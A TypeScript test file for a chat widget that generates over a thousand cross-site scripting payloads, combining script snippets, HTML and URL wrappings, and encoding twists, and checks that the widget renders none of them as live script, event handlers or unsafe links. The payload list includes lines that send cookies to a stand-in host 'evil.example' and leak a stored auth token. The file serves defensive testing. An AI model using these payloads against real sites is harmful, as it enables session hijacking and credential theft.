import { beforeEach, expect, test } from "vitest";
import type { Button, Content, MediaOut } from "../sync/protocol";
import { said, WidgetStage, words } from "../testing/widget_stage";

/** Things that people have put where text belongs, in every wrapping that we know of. */
const SCRIPTS = [
  "alert(1)",
  "parent.postMessage(localStorage['obrol:toko:token'],'*')",
  "window.executed=1",
  "fetch('//evil.example/'+document.cookie)",
];
const WRAPPINGS: ((script: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` java\nscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `vbscript:${js}`,
  (js) => `https://x.example/" onmouseover="${js}`,
  (js) => `https://x.example/'><script>${js}</script>`,
  (js) => `"><input autofocus onfocus=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<style>@import'javascript:${js}'</style>`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<template><img src=x onerror=${js}></template>`,
];
const TWISTS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `before ${text} after`,
  (text) => `${text}${text}`,
  (text) => text.replaceAll("<", "\u0000<"),
  (text) => text.replaceAll("<", "&lt;"),
  (text) => encodeURI(text),
  (text) => `\u202e${text}`,
  (text) => text.replaceAll(" ", "\t"),
  (text) => `www.${text}`,
];
const PAYLOADS = SCRIPTS.flatMap((script) =>
  WRAPPINGS.flatMap((wrap) => TWISTS.map((twist) => twist(wrap(script)))),
);
const SAFE = /^(https?|mailto|tel):/;

let stage: WidgetStage;

beforeEach(() => {
  stage = new WidgetStage();
});

test(`${PAYLOADS.length} attacks in thirteen places each: nothing runs, every link is safe`, async () => {
  await stage.open();
  for (let first = 0; first < PAYLOADS.length; first += 50) {
    const head = stage.conversation.sync.local ?? 0;
    const messages = PAYLOADS.slice(first, first + 50).flatMap((payload) => everywhere(payload));
    const numbered = messages.map((content, at) =>
      said(head + at + 1, content, "agent", PAYLOADS[first + Math.floor(at / 4)] ?? ""),
    );
    stage.hear({ type: "messages", from: head, to: head + numbered.length, messages: numbered });
    inspect();
    // Another conversation, so that the page does not grow for ever.
    stage.conversation.sync = { ...stage.conversation.sync, messages: [] };
  }
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(1_000);
  expect("executed" in window).toBe(false);
}, 60_000);

function everywhere(payload: string): Content[] {
  const button: Button = { id: payload, label: payload, url: payload };
  const media: MediaOut = {
    attachment_id: payload,
    name: payload,
    media_type: payload,
    size: 1,
    width: null,
    height: null,
    url: payload,
    thumbnail_url: payload,
  };
  return [
    words(payload, { buttons: [button], quick_replies: [{ id: payload, label: payload }] }),
    { kind: "image", media, caption: payload },
    { kind: "file", media, caption: payload },
    {
      kind: "cards",
      cards: [{ title: payload, subtitle: payload, image: media, buttons: [button] }],
    },
  ];
}

function inspect(): void {
  const made = new Set([...stage.root.querySelectorAll("*")].map(({ localName }) => localName));
  for (const never of ["script", "iframe", "object", "style", "base", "meta", "math", "template"])
    expect(made).not.toContain(never);
  for (const node of stage.root.querySelectorAll("*"))
    for (const { name, value } of node.attributes) {
      expect(name.startsWith("on"), name).toBe(false);
      if (name === "href" || name === "src")
        expect(value === "" || SAFE.test(value), value).toBe(true);
    }
}
